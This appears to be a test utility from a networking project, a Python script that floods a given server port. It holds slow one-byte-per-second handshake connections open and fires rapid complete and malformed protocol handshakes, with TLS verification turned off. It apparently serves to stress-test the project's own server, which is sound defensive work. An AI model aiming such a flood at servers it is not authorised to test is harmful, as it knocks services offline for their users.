"""An attacker of a server's port: slow handshakes, byte by byte, and many quick ones.

    python -m tests.attacks.flood HOST PORT plain|tls SLOW RATE

Runs until it is killed. It keeps SLOW connections that send one byte of a valid beginning a second, and connect again
when they are cut; and it makes RATE handshakes a second. Of these, every second one is complete, with an id of its own,
and then hangs up; the others send an invalid INI. Several times a second it prints a line: the handshakes so far, and
how many were answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import ssl
import sys
import time
import uuid
from typing import NamedTuple

from netq.protocol.wire import Greeting

_MOST = 1000  # handshakes under way
_TELL = 0.2  # seconds between two lines
_CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(range(200))  # the begin of a TLS handshake


class Target(NamedTuple):
    host: str
    port: int
    secure: bool


class Counts:
    """What was tried, and what the server answered."""

    def __init__(self) -> None:
        self.tried = self.answered = 0


def ini() -> bytes:
    """Return the INI of a new client."""
    return Greeting(uuid.uuid4(), uuid.uuid4().bytes, 2**40, 2**18, 10_000).frame().whole()


async def trickle(target: Target) -> None:
    """Send the begin of a handshake, one byte a second, and again when the server ends it."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(target.host, target.port)
            try:
                for byte in _CLIENT_HELLO if target.secure else ini():
                    writer.write(bytes([byte]))
                    with contextlib.suppress(TimeoutError):
                        if not await asyncio.wait_for(reader.read(1024), 1.0):
                            break
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.1)


async def shake_hands(target: Target, number: int, context: ssl.SSLContext | None, counts: Counts) -> None:
    """Complete a handshake, or send an invalid one, and hang up."""
    counts.tried += 1
    with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError, TimeoutError):
        async with asyncio.timeout(10.0):
            reader, writer = await asyncio.open_connection(target.host, target.port, ssl=context)
            try:
                data = ini()
                writer.write(data if number % 2 else data[:24] + b"QTEN" + data[28:])
                await reader.readexactly(24)
                counts.answered += 1
            finally:
                writer.transport.abort()


async def attack(target: Target, slow: int, rate: float) -> None:
    """Run both attacks until the process is killed."""
    context = None
    if target.secure:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    counts, tasks = Counts(), {asyncio.create_task(trickle(target)) for _ in range(slow)}
    keep = frozenset(tasks)
    begin = told = time.monotonic()
    while True:
        now = time.monotonic()
        late = counts.tried < (now - begin) * rate and len(tasks) - len(keep) < _MOST
        if late:
            task = asyncio.create_task(shake_hands(target, counts.tried, context, counts))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        if now - told >= _TELL:
            told = now
            print(counts.tried, counts.answered, flush=True)
        await asyncio.sleep(0 if late else 0.002)


def main() -> None:
    """Read the command line, and attack."""
    host, port, kind, slow, rate = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(attack(Target(host, int(port), kind == "tls"), int(slow), float(rate)))


if __name__ == "__main__":
    main()
